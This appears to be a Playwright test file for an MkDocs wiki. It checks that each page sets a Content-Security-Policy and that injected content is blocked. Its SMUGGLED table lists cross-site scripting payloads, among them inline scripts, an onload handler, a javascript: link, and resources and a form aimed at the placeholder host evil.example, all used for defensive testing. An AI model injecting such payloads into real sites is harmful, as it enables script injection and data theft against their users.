"""Every page obeys its Content-Security-Policy, and what somebody could smuggle into one neither runs nor is fetched."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.conftest import BASE, copy_small
from tests.support.browser import tab
from tests.support.serving import dev_server, static_server

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser

    from tests.conftest import Site
    from tests.support.browser import Tab

_LISTEN = """
window.violations = []
document.addEventListener("securitypolicyviolation", event =>
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`))
"""


def addresses(site: Site) -> list[str]:
    """A page of each folder and depth, among them all at the top and those by hand, and the one for what is not there."""
    pages = [path.relative_to(site.folder).as_posix().removesuffix("index.html") for path in site.folder.rglob("index.html")]
    sorts = {(page.partition("/")[0], page.count("/")): page for page in sorted(pages, reverse=True)}
    return [*sorted(sorts.values()), "404.html", "nowhere/at/all/"]


def violations(opened: Tab) -> list[str]:
    found: list[str] = opened.page.evaluate("window.violations")
    return [f"{opened.page.url}: {one}" for one in found]


def test_every_sort_of_page_obeys_its_policy(browser: Browser, sites: dict[str, Site], home: str) -> None:
    wrong: list[str] = []
    with tab(browser, home) as opened:
        opened.page.add_init_script(_LISTEN)
        for address in addresses(sites["mkdocs"]):
            opened.page.goto(home + address)
            assert opened.page.locator("head > meta[http-equiv=Content-Security-Policy]").count() == 1, address
            wrong += violations(opened)
        wrong += [fault for fault in opened.faults if "404" not in fault]
    assert wrong == []


def test_what_readers_do_obeys_the_policy(browser: Browser, searched: str) -> None:
    """Searching, with its worker, previews, numbers, filters, drawings, reports and the switch of colours."""
    with tab(browser, searched) as opened:
        page = opened.page
        page.add_init_script(_LISTEN)
        opened.open("towns/khan-shaykhun/")
        page.locator("label[title='Switch to dark']").click()
        page.locator(".wiki-cite a").first.hover()
        page.locator(".wiki-float:visible").wait_for()
        page.locator("a.wiki-entity:visible").first.hover()
        page.locator(".wiki-float__title:visible").wait_for()
        page.fill("[data-md-component=search-query]", "hayat tahrer")
        page.locator(".wiki-found a").first.wait_for()
        page.locator(".md-search-result__link").first.wait_for()
        wrong = violations(opened)
        for drawing in ("map/", "timeline/", "network/"):
            opened.open(drawing)
            expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
            page.get_by_label("Find", exact=True).fill("Hama")
            page.wait_for_timeout(300)
            wrong += violations(opened)
        assert wrong + opened.faults == []


SMUGGLED = {
    "a script": "<script>window.pwned = 'script'</script>",
    "a handler": "<img src=../../assets/images/favicon.png onload=\"window.pwned = 'handler'\">",
    "a script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "a picture from elsewhere": '<img src="https://evil.example/x.png">',
    "a style from elsewhere": '<style>body { background: url("https://evil.example/x.png") }</style>',
    "a frame": "<iframe srcdoc=\"<script>parent.pwned = 'frame'</script>\"></iframe>",
    "an object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "a base": '<base href="https://evil.example/">',
    "an address that is a script": '<a id="smuggled" href="javascript:window.pwned = 1">x</a>',
    "a form": '<form id="smuggled" action="https://evil.example/"><button id="send">x</button></form>',
}
"""What a hole in some template would let through."""


@pytest.mark.parametrize("what", SMUGGLED)
def test_what_is_smuggled_in_does_nothing(browser: Browser, sites: dict[str, Site], tmp_path: Path, what: str) -> None:
    address = "towns/khan-shaykhun/"
    built = (sites["mkdocs"].folder / address / "index.html").read_text(encoding="utf-8")
    page = tmp_path / "page.html"
    page.write_text(built.replace("<article", f"{SMUGGLED[what]}<article", 1), encoding="utf-8")
    with static_server(sites["mkdocs"].folder, BASE, {address: page}) as home, tab(browser, home) as opened:
        failed: list[str | None] = []
        opened.page.on("requestfailed", lambda request: failed.append(request.failure))
        opened.page.add_init_script(_LISTEN)
        opened.page.goto(home + address)
        opened.page.evaluate("document.querySelector('#smuggled button, a#smuggled')?.click()")
        opened.wait_until("[window, ...Array.from(frames)].some(each => each.violations?.length)")
        assert opened.page.evaluate("window.pwned") is None
        assert set(failed) <= {"csp"}


def test_serving_excepts_what_reloads_alone(browser: Browser, tmp_path: Path) -> None:
    """What MkDocs puts into a page that it serves runs, and a script on the page itself does not."""
    root = copy_small(tmp_path / "wiki")
    (root / "docs/method.md").write_text("# Method\n\n<script>window.pwned = 1</script>\n", encoding="utf-8")
    with dev_server(root) as server, tab(browser, f"http://127.0.0.1:{server.port}/") as opened:
        opened.page.add_init_script(_LISTEN)
        opened.page.goto(f"{opened.home}method/")
        assert opened.page.evaluate("typeof livereload") == "function"
        assert opened.page.evaluate("window.pwned") is None
        assert [one.partition(" ")[0] for one in opened.page.evaluate("window.violations")] == ["script-src-elem"]
        opened.page.goto(f"{opened.home}towns/morek/")
        assert opened.page.evaluate("typeof livereload") == "function"
        assert opened.page.evaluate("window.violations") == []
